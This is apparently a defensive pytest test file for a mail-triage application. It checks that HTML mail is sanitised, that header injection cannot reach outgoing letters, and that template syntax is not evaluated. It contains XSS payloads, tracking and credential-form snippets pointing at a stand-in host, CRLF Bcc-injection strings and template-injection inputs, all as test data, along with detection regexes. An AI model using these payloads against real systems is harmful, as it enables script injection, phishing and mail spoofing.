"""Hazard: a mail acts by itself (script, picture that tells it was read, form, address that misleads). It is text, here and in letters."""

import re

import pytest
from build import TUESDAY_10AM, app_on, arrive, letters, mail, messages, service
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Engine

from liaison.letters.render import twin
from liaison.mail.compose import compose
from liaison.mail.mime import parse
from liaison.outbox import send
from liaison.store.session import transaction
from liaison.triage import inbox, reply

EVIL = (
    "<p>A dose question</p><script>alert(1)</script><img src='https://spy.example/seen.gif'><img src=x onerror=alert(2)>"
    "<a href='javascript:alert(3)'>here</a><form action='https://spy.example'><input name=password></form><iframe src='https://spy.example'>"
    "</iframe><svg onload=alert(4)></svg><style>@import 'https://spy.example/x.css'</style><meta http-equiv=refresh content='0;url=//spy.example'>"
    "<object data='x.swf'></object><base href='https://spy.example/'><p style='background:url(https://spy.example/b)'>end</p>"
)
ACTIVE = re.compile(
    r"<\s*(?:script|iframe|object|embed|form|input|svg|style|meta|base|link|math)\b|\son\w+\s*=|javascript:|url\(|@import",
    re.I,
)
FETCHES = re.compile(r"<[^>]*\b(?:src|background|data|poster|srcset)\s*=", re.I)


def html_mail(html: str) -> bytes:
    head = "From: tait@quay.example\nSubject: Dose\nMessage-ID: <one@quay.example>\nContent-Type: text/html; charset=utf-8\n\n"
    return (head + html).encode("utf-8", "replace")


def assert_inert(html: str | None) -> None:
    assert not ACTIVE.search(html or "")
    assert not FETCHES.search(html or "")


def test_what_is_kept_of_an_html_mail_runs_nothing_and_fetches_nothing(engine: Engine) -> None:
    app = app_on(engine)
    service(app)

    arrive(app, html_mail(EVIL))

    (message,) = messages(app)
    assert_inert(message.html)
    assert "A dose question" in message.text
    assert "alert" not in message.text


TAGS = [
    "<script>",
    "</script>",
    "<img src=x onerror=a>",
    "<b>",
    "<",
    ">",
    "<!--",
    "-->",
    "]]>",
    "<a href=javascript:a>",
    "<svg/onload=a>",
    "<p style='x:url(y)'>",
    "dose",
    "&lt;",
    '"',
]


@given(st.lists(st.sampled_from(TAGS), max_size=14).map("".join))
def test_no_way_of_nesting_it_gets_anything_active_through(html: str) -> None:
    assert_inert(parse(html_mail(html)).html)


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_whatever_a_colleague_types_the_html_of_a_letter_says_it_as_text(text: str) -> None:
    left = re.sub(r"<!doctype html>|</?(?:html|body|p|br)\b[^<>]*>", "", twin(f"<script>{text}</script>"))

    assert "<" not in left
    assert "&lt;script&gt;" in left


@pytest.mark.parametrize(
    "subject", ["Dose\r\nBcc: all@staff.example", "Dose\n\nbody", "=?utf-8?q?Dose=0D=0ABcc:_all@staff.example?="]
)
def test_no_header_of_a_mail_reaches_the_headers_of_a_letter(engine: Engine, subject: str) -> None:
    app = app_on(engine)
    ids = service(app)
    (case,) = arrive(app, mail(subject="Dose").replace(b"Subject: Dose", f"Subject: {subject}".encode()))
    with transaction(engine) as session:
        opened = inbox.open_case(session, case.id, staff_id=ids["Petra"], now=TUESDAY_10AM)
        words = "Bcc: all@staff.example\r\n.\r\nSubject: other"
        reply.send(app, session, case.id, version=opened.version, staff_id=ids["Petra"], text=words, now=TUESDAY_10AM)

    for letter in letters(app):
        head = compose(send.outgoing(letter, TUESDAY_10AM)).partition(b"\r\n\r\n")[0]
        assert b"Bcc" not in head
        assert b"all@staff" not in head
        assert head.count(b"Subject:") == 1
        assert letter.subject.startswith(f"[SU-GP {case.reference}]")


def test_words_of_a_mail_are_no_template_in_a_letter(engine: Engine) -> None:
    app = app_on(engine)
    service(app)

    arrive(
        app,
        mail(
            "About the dose {{ 7 * 7 }} {% for x in range(9) %}",
            subject="{{ service.phone }}",
            sender='"{{ 7*7 }}" <tait@quay.example>',
        ),
    )

    assert "49" not in letters(app)[0].text
    assert "{{" not in letters(app)[0].text
